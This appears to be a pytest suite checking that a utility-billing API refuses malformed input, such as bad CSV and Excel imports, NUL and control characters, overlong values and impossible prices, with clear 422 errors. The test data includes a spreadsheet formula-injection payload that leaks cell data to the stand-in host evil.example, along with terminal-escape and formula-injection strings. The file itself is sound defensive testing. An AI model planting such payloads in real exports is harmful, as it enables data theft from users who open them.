"""Bad input through the API as a client sends it, on SQLite and PostgreSQL: a clear ``422`` (or
a failed row in an import report) naming the field, never a 5xx, and nothing changed."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from apikit import World, key
from openpyxl import Workbook

HEADER = (
    "account_number,customer_name,site,building,floor,room,meter_numbers,tariffs,opening_readings"
)


def csv_row(number: str, *extra: str, meter: str = "Alpha-M3") -> str:
    cells = [number, "Imported", "Alpha Park", "Alpha B1", "Alpha F1", "Alpha 102", meter]
    return ",".join([*cells, "Alpha Flat", "0", *extra])


def import_csv(world: World, text: str, name: str, *, open_now: bool = True) -> Any:
    return world.client.post(
        "/api/v1/account-imports",
        files={"file": ("accounts.csv", text.encode(), "text/csv")},
        data={"open_now": str(open_now).lower()},
        headers={**world.alpha.auth("admin"), **key(name)},
    )


def accounts_numbered(world: World, number: str) -> list[Any]:
    answer = world.client.get(f"/api/v1/accounts?number={number}", headers=world.alpha.auth())
    return [a for a in answer.json()["items"] if a["number"] == number]


def test_an_import_row_with_an_impossible_credit_fails_alone(any_world: World) -> None:
    # "1e30" raised InvalidOperation out of the import (a 500) after the rows before it were
    # committed; now that row fails with its reason and the others go on.
    text = f"{HEADER},initial_credit\n{csv_row('H-1', '1e30')}\n"

    response = import_csv(any_world, text, "huge")

    assert response.status_code == 201, response.text
    (row,) = response.json()["rows"]
    assert (row["row"], row["ok"]) == (2, False)
    assert "initial_credit" in row["message"]
    assert accounts_numbered(any_world, "H-1") == []


def import_xlsx(world: World, sheet_rows: list[list[Any]], name: str) -> Any:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for cells in sheet_rows:
        sheet.append(cells)
    content = io.BytesIO()
    book.save(content)
    return world.client.post(
        "/api/v1/account-imports",
        files={"file": ("accounts.xlsx", content.getvalue(), "application/octet-stream")},
        data={"open_now": "true"},
        headers={**world.alpha.auth("admin"), **key(name)},
    )


def test_an_import_report_names_the_rows_as_the_file_numbers_them(any_world: World) -> None:
    # Blank rows were dropped before numbering, so every row after one was reported a row too
    # early: the user fixed the wrong line.
    text = f"{HEADER}\n\n{csv_row('L-1', meter='nowhere')}\n\n{csv_row('L-2', meter='nowhere')}\n"
    sheet = [HEADER.split(","), [None] * 9, csv_row("L-3", meter="nowhere").split(",")]

    from_csv = import_csv(any_world, text, "csv-lines").json()["rows"]
    from_excel = import_xlsx(any_world, sheet, "xlsx-rows").json()["rows"]

    assert [(r["account_number"], r["row"]) for r in from_csv] == [("L-1", 3), ("L-2", 5)]
    assert [(r["account_number"], r["row"]) for r in from_excel] == [("L-3", 3)]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        # A misspelt column was ignored: the account opened without its credit.
        (f"{HEADER},initial_credt\n{csv_row('U-1', '50')}\n", "unknown column 'initial_credt'"),
        (f"{HEADER},account_number\n{csv_row('U-1', 'U-2')}\n", "'account_number' appears twice"),
        (f"{HEADER}\n{csv_row('U-1', '50')}\n", "line 2: '50' is in a column without a name"),
        # csv.Error (a 500) and a decoding error that named no line
        (f"{HEADER}\n{csv_row('U-1').replace('Imported', 'x' * 140_000)}\n", "line 2: field"),
    ],
)
def test_an_import_file_that_would_be_misread_is_refused_whole(
    any_world: World, text: str, said: str
) -> None:
    response = import_csv(any_world, text, "misread")

    assert response.status_code == 422, response.text
    assert said in response.json()["error"]["message"]
    assert accounts_numbered(any_world, "U-1") == []


def test_a_gbk_csv_is_refused_with_the_line_to_fix(any_world: World) -> None:
    text = f"{HEADER}\n{csv_row('G-1')}\n{csv_row('G-2').replace('Imported', '张三')}\n"
    response = any_world.client.post(
        "/api/v1/account-imports",
        files={"file": ("accounts.csv", text.encode("gbk"), "text/csv")},
        headers={**any_world.alpha.auth("admin"), **key("gbk")},
    )

    assert response.status_code == 422, response.text
    assert "line 3 is not UTF-8" in response.json()["error"]["message"]
    assert accounts_numbered(any_world, "G-1") == []


def test_an_excel_formula_without_a_saved_result_is_refused(any_world: World) -> None:
    # openpyxl reads the cached result; a file written by a program that does not compute
    # formulas has none, and the credit "=50*2" was read as empty: opened with 0.00.
    sheet = [[*HEADER.split(","), "initial_credit"], [*csv_row("F-1").split(","), "=50*2"]]

    response = import_xlsx(any_world, sheet, "formula")

    assert response.status_code == 422, response.text
    assert "row 2, column J: the formula =50*2" in response.json()["error"]["message"]
    assert accounts_numbered(any_world, "F-1") == []


@pytest.mark.parametrize(
    ("method", "path", "body", "said"),
    [
        # NUL: psycopg refuses it, so each of these was a 500 on PostgreSQL (stored on SQLite)
        ("post", "/api/v1/customers", {"name": "Li\x00Lei"}, "name: a control character (U+0000)"),
        ("post", "/api/v1/customers", {"name": "Li\x1b[2J"}, "name: a control character (U+001B)"),
        ("post", "/api/v1/sites", {"name": "P\x00", "timezone": "UTC"}, "name: a control"),
        ("get", "/api/v1/accounts?number=A%00", None, "number: a control character (U+0000)"),
        ("put", "/api/v1/notification-channels/l%00g", {}, "channel: a control character"),
    ],
)
def test_text_with_a_control_character_is_refused(
    any_world: World, method: str, path: str, body: Any, said: str
) -> None:
    before = any_world.client.get("/api/v1/customers", headers=any_world.alpha.auth()).json()

    response = any_world.client.request(
        method, path, json=body, headers=any_world.alpha.auth("admin")
    )

    assert response.status_code == 422, response.text
    assert said in response.json()["error"]["message"]
    assert any_world.client.get("/api/v1/customers", headers=any_world.alpha.auth()).json() == (
        before
    )


def test_a_recharge_keyed_or_referenced_with_a_nul_moves_nothing(any_world: World) -> None:
    path = f"/api/v1/accounts/{any_world.alpha.account_id}/recharge"
    cashier = any_world.alpha.auth("cashier")

    by_key = any_world.client.post(
        path, json={"amount": "5"}, headers={**cashier, **key("receipt\x00-1")}
    )
    by_reference = any_world.client.post(
        path, json={"amount": "5", "reference": "r\x00"}, headers={**cashier, **key("receipt-2")}
    )

    assert (by_key.status_code, by_reference.status_code) == (422, 422)
    balance = any_world.client.get(
        f"/api/v1/accounts/{any_world.alpha.account_id}/balance", headers=cashier
    )
    assert balance.json()["balance"] == "100.00"


def test_an_import_cell_with_a_nul_is_refused_whole(any_world: World) -> None:
    spoilt = csv_row("N-2").replace("Imported", "Li\x00Lei")
    text = f"{HEADER}\n{csv_row('N-1')}\n{spoilt}\n"

    response = import_csv(any_world, text, "nul")

    assert response.status_code == 422, response.text
    assert "line 3: a control character (U+0000)" in response.json()["error"]["message"]
    assert accounts_numbered(any_world, "N-1") == []


def test_a_memo_in_the_statement_csv_is_not_a_spreadsheet_formula(any_world: World) -> None:
    # The reversal memo is the operator's text; in the CSV it was written as it was, so Excel
    # ran "=HYPERLINK(…)" as a formula (the audit export already escaped its cells).
    memo = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
    reversed_ = any_world.client.post(
        f"/api/v1/transfers/{any_world.alpha.transfer_id}/reversal",
        json={"memo": memo},
        headers={**any_world.alpha.auth("admin"), **key("reverse-1")},
    )
    assert reversed_.status_code == 201, reversed_.text

    answer = any_world.client.get(
        f"/accounts/{any_world.alpha.account_id}/statement.csv?from=2026-11-01&to=2026-11-30",
        headers=any_world.alpha.auth("readonly"),
    )

    assert answer.status_code == 200, answer.text
    memos = [row["memo"] for row in csv.DictReader(io.StringIO(answer.text.lstrip("\ufeff")))]
    assert any(m.endswith(memo) for m in memos), memos
    assert not any(m.startswith(("=", "+", "-", "@")) for m in memos)


@pytest.mark.parametrize("price", ["9" * 40, "1e2", "1000000"])
def test_a_tariff_with_an_impossible_price_is_refused(any_world: World, price: str) -> None:
    # Stored before: then every reading of a meter on it failed its whole ingest batch (the
    # charge overflowed the fen column: POST /readings answered 500 on both databases).
    version = {"effective_from": "2026-01-01", "prices": {"flat": price}}
    body = {"name": "Dear", "definition": {"utility": "electricity", "versions": [version]}}

    response = any_world.client.post(
        "/api/v1/tariffs", json=body, headers=any_world.alpha.auth("admin")
    )

    assert response.status_code == 422, response.text
    assert "prices.flat" in response.json()["error"]["message"]
    names = any_world.client.get("/api/v1/tariffs", headers=any_world.alpha.auth()).json()
    assert "Dear" not in [t["name"] for t in names["items"]]


@pytest.mark.parametrize("at", ["9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00+14:00"])
def test_an_instant_beyond_the_calendar_in_utc_is_refused(any_world: World, at: str) -> None:
    # Valid with its offset, but not in UTC: the handler's conversion raised OverflowError (500).
    reading = {"meter_id": any_world.alpha.meter_id, "measured_at": at, "total": "1001"}

    response = any_world.client.post(
        "/api/v1/readings", json={"readings": [reading]}, headers=any_world.alpha.auth("admin")
    )
    listed = any_world.client.get(
        "/api/v1/audit", params={"since": at}, headers=any_world.alpha.auth("admin")
    )

    assert response.status_code == 422, response.text
    assert "measured_at: Value error, out of range once in UTC" in response.text
    assert listed.status_code == 422, listed.text


def test_an_import_row_with_an_overlong_value_fails_alone(any_world: World) -> None:
    # The API's preset limits were not applied to import rows: PostgreSQL's column refused the
    # value mid-import (a 500, the rows before it committed), SQLite stored it.
    long_name = csv_row("O-1").replace("Imported", "x" * 201)
    text = f"{HEADER}\n{long_name}\n{csv_row('O-2')}\n"

    response = import_csv(any_world, text, "overlong")

    assert response.status_code == 201, response.text
    rows = [(r["row"], r["ok"], r["message"]) for r in response.json()["rows"]]
    assert rows == [(2, False, "customer_name: longer than 200 characters"), (3, True, "opened")]
    assert accounts_numbered(any_world, "O-1") == []


@pytest.mark.parametrize(
    ("column", "value", "said"),
    [
        ("initial_credit", "-5", "initial_credit: cannot be negative"),
        ("payment_method", "gold", "payment_method: 'gold' is not one of cash"),
        ("billing_mode", "self", "billing_mode: 'self' is not one of platform"),
    ],
)
def test_an_import_row_that_could_never_be_opened_is_not_pre_entered(
    any_world: World, column: str, value: str, said: str
) -> None:
    # Pre-entering checks what opening needs (the API's presets refuse these in their schema);
    # imported rows were stored, and their opening failed later.
    text = f"{HEADER},{column}\n{csv_row('P-1', value)}\n"

    response = import_csv(any_world, text, "never", open_now=False)

    assert response.status_code == 201, response.text
    (row,) = response.json()["rows"]
    assert (row["ok"], row["message"][: len(said)]) == (False, said)
    presets = any_world.client.get("/api/v1/account-presets", headers=any_world.alpha.auth())
    assert "P-1" not in [p["account_number"] for p in presets.json()["items"]]


def test_the_statement_csv_of_an_account_numbered_in_chinese_downloads(any_world: World) -> None:
    # The file name went into a Latin-1 header as it was: UnicodeEncodeError, a 500.
    alpha = any_world.alpha
    opening = {"meter_id": alpha.spare_meter_id, "tariff_id": alpha.tariff_id, "reading": "0"}
    opened = any_world.client.post(
        "/api/v1/accounts",
        json={"number": '甲"-101', "customer_id": alpha.customer_id, "meters": [opening]},
        headers={**alpha.auth("admin"), **key("open-chinese")},
    )
    assert opened.status_code == 201, opened.text

    answer = any_world.client.get(
        f"/accounts/{opened.json()['id']}/statement.csv?from=2026-11-01&to=2026-11-30",
        headers=alpha.auth("readonly"),
    )

    assert answer.status_code == 200, answer.text
    disposition = answer.headers["content-disposition"]
    assert 'filename="statement-__-101-2026-11-01-2026-11-30.csv"' in disposition
    assert "filename*=UTF-8''statement-%E7%94%B2%22-101-2026-11-01-2026-11-30.csv" in disposition


@pytest.mark.parametrize("content", [b"not a zip", b"PK\x03\x04 torn"])
def test_a_broken_excel_file_is_refused(any_world: World, content: bytes) -> None:
    response = any_world.client.post(
        "/api/v1/account-imports",
        files={"file": ("accounts.xlsx", content, "application/octet-stream")},
        headers={**any_world.alpha.auth("admin"), **key("broken")},
    )

    assert response.status_code == 422, response.text  # BadZipFile: a 500
    assert "not an Excel workbook" in response.json()["error"]["message"]


@pytest.mark.parametrize("kind", ["APPLICATION/JSON", "application/merge-patch+json"])
def test_a_json_body_under_another_content_type_is_checked_too(any_world: World, kind: str) -> None:
    # FastAPI reads these as JSON; the check looked only at "application/json…" and let the NUL
    # through (stored on SQLite, a 500 on PostgreSQL).
    headers = {**any_world.alpha.auth("admin"), "content-type": kind}

    response = any_world.client.post(
        "/api/v1/customers", content='{"name": "Li\\u0000Lei"}', headers=headers
    )

    assert response.status_code == 422, response.text
    assert "name: a control character (U+0000)" in response.json()["error"]["message"]


def test_a_meter_numbered_longer_than_an_address_needs_its_address(any_world: World) -> None:
    # The number (up to 64) stands in for a missing address (a 40-character column): a 500 on
    # PostgreSQL, stored on SQLite.
    site = any_world.alpha.site_id
    body = {"number": "E" * 50, "utility": "electricity", "kind": "single_phase", "site_id": site}

    response = any_world.client.post(
        "/api/v1/meters", json=body, headers=any_world.alpha.auth("admin")
    )

    assert response.status_code == 422, response.text
    assert "address: at most 40 characters" in response.json()["error"]["message"]
    with_address = any_world.client.post(
        "/api/v1/meters", json={**body, "address": "000000000050"}, headers=any_world.alpha.auth()
    )
    assert with_address.status_code == 201, with_address.text


def test_a_username_leaves_room_for_its_tokens_actor(any_world: World) -> None:
    # A token acts as "username/token:<id>" in actor columns of 100: a 100-character username's
    # token failed every write on PostgreSQL (a 500 on a recharge), so usernames stop at 80.
    client, alpha = any_world.client, any_world.alpha

    def member(name: str) -> Any:
        body = {"username": name, "password": "a long password 123", "role": "cashier"}
        return client.post("/api/v1/users", json=body, headers=alpha.auth("admin"))

    refused, longest = member("u" * 81), member("u" * 80)
    assert refused.status_code == 422, refused.text
    assert longest.status_code == 201, longest.text
    token = client.post(
        "/api/v1/tokens", json={"name": "t", "user_id": longest.json()["id"]}, headers=alpha.auth()
    ).json()["token"]
    recharged = client.post(
        f"/api/v1/accounts/{alpha.account_id}/recharge",
        json={"amount": "5"},
        headers={"Authorization": f"Bearer {token}", **key("long-actor")},
    )
    assert recharged.status_code == 201, recharged.text


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/v1/customers", {"name": "Li\nLei"}),
        ("/api/v1/sites", {"name": "North\tPark", "timezone": "UTC"}),
        ("/api/v1/tariffs", {"name": "Flat\r\n=1+1", "definition": {}}),
    ],
)
def test_a_name_is_one_line(any_world: World, path: str, body: dict[str, Any]) -> None:
    # Stored as it was: a name with a line break split the CLI's lines and the rows of
    # anything that prints it.
    response = any_world.client.post(path, json=body, headers=any_world.alpha.auth("admin"))

    assert response.status_code == 422, response.text
    assert "name: Value error, one line of text" in response.json()["error"]["message"]


def test_an_import_cell_with_a_line_break_is_refused_whole(any_world: World) -> None:
    spoilt = csv_row("B-2").replace("Imported", '"Li\nLei"')
    text = f"{HEADER}\n{csv_row('B-1')}\n{spoilt}\n"

    response = import_csv(any_world, text, "line-break")

    assert response.status_code == 422, response.text
    assert "line 3: a control character (U+000A)" in response.json()["error"]["message"]
    assert accounts_numbered(any_world, "B-1") == []


@pytest.mark.parametrize("total", ["１００１", "١٠٠١"])
def test_a_register_in_another_scripts_digits_is_refused(any_world: World, total: str) -> None:
    # The pattern's \d took any script's digits and Decimal() read them: fullwidth "１００１"
    # was stored as the reading 1001.
    reading = {"meter_id": any_world.alpha.meter_id, "measured_at": "2026-11-02T00:45:00Z"}

    response = any_world.client.post(
        "/api/v1/readings",
        json={"readings": [{**reading, "total": total}]},
        headers=any_world.alpha.auth("admin"),
    )

    assert response.status_code == 422, response.text
    assert "readings.0.total" in response.json()["error"]["message"]


@pytest.mark.parametrize("number", ["NaN", "1e400"])
def test_a_non_finite_number_in_a_body_is_refused(any_world: World, number: str) -> None:
    # json.loads takes NaN and reads 1e400 as infinity; a channel setting was then stored as
    # null, silently.
    body = '{"provider": "log", "config": {"port": ' + number + "}}"

    response = any_world.client.put(
        "/api/v1/notification-channels/log",
        content=body,
        headers={**any_world.alpha.auth("admin"), "content-type": "application/json"},
    )

    assert response.status_code == 422, response.text
    assert "config.port.float: Input should be a finite number" in response.text
